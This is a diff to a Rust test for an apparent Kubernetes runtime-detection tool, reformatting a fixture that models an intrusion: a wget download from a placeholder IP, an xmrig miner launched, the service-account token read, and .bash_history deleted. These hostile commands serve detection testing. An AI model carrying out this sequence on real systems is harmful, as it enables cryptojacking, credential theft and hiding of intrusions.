@@ -18,14 +18,16 @@ fn incident() -> Vec<SessionUpdate> {
     let i = info(100, SessionKind::Exec, 10 * S, None);
     let mut wget = image(0, 12 * S, "/bin/busybox", &["wget", "-O", "/tmp/t.tgz", "http://198.51.100.7/t.tgz"]);
     wget.filename = b"/proc/self/exe".to_vec();
-    wget.connects = vec![connect(12 * S + 10, Transport::Tcp, "198.51.100.7", 80, ConnectOutcome::Connected, None, false)];
+    wget.connects =
+        vec![connect(12 * S + 10, Transport::Tcp, "198.51.100.7", 80, ConnectOutcome::Connected, None, false)];
     wget.files = vec![file(12 * S + 20, FileOp::Open, "/tmp/t.tgz", None, true, O_WRONLY | O_CREAT | O_TRUNC)];
     let mut tar = image(0, 14 * S, "/bin/busybox", &["tar", "xzf", "/tmp/t.tgz", "-C", "/tmp"]);
     tar.files = vec![file(14 * S + 30, FileOp::Open, "/tmp/xmrig", None, true, O_WRONLY | O_CREAT | O_TRUNC)];
     let gzip = image(0, 14 * S + 10, "/bin/busybox", &["gzip", "-d"]);
     let xmrig = image(0, 16 * S, "/tmp/xmrig", &["/tmp/xmrig", "-o", "pool:3333"]);
     let mut cat = image(0, 18 * S, "/bin/busybox", &["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"]);
-    cat.files = vec![file(18 * S + 1, FileOp::Open, "/var/run/secrets/kubernetes.io/serviceaccount/token", None, false, 0)];
+    cat.files =
+        vec![file(18 * S + 1, FileOp::Open, "/var/run/secrets/kubernetes.io/serviceaccount/token", None, false, 0)];
     let mut rm = image(0, 20 * S, "/bin/busybox", &["rm", ".bash_history"]);
     rm.files = vec![file(20 * S + 1, FileOp::Unlink, "/root/.bash_history", None, false, 0)];
     let sh = image(0, 10 * S, "/bin/busybox", &["sh"]);
@@ -55,7 +57,11 @@ fn render(spans: &[SpanData]) -> String {
     fn walk(out: &mut String, kids: &BTreeMap<[u8; 8], Vec<&SpanData>>, s: &SpanData, depth: usize) {
         let pad = "  ".repeat(depth);
         out.push_str(&format!("{pad}{} [{:?}]\n", s.name, s.span_kind));
-        for kv in s.attributes.iter().filter(|kv| kv.key.as_str().starts_with("podtrail.alerts") || kv.key.as_str() == "user.name") {
+        for kv in s
+            .attributes
+            .iter()
+            .filter(|kv| kv.key.as_str().starts_with("podtrail.alerts") || kv.key.as_str() == "user.name")
+        {
             out.push_str(&format!("{pad}  | {} = {}\n", kv.key, kv.value));
         }
         for e in s.events.iter() {
@@ -82,8 +88,12 @@ fn seed_incident_alerts_sit_on_the_spans_that_triggered_them() {
     if std::env::var_os("UPDATE_GOLDEN").is_some() {
         std::fs::write(&path, &actual).unwrap();
     }
-    let expected = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{path}: {e} (run with UPDATE_GOLDEN=1 to create it)"));
-    assert!(expected == actual, "span tree differs from {path}; run with UPDATE_GOLDEN=1 to accept:\n--- actual ---\n{actual}");
+    let expected = std::fs::read_to_string(&path)
+        .unwrap_or_else(|e| panic!("{path}: {e} (run with UPDATE_GOLDEN=1 to create it)"));
+    assert!(
+        expected == actual,
+        "span tree differs from {path}; run with UPDATE_GOLDEN=1 to accept:\n--- actual ---\n{actual}"
+    );
     // and, whatever the golden says, where each alert sits:
     let fired = fired(&spans);
     for (span, rule) in [
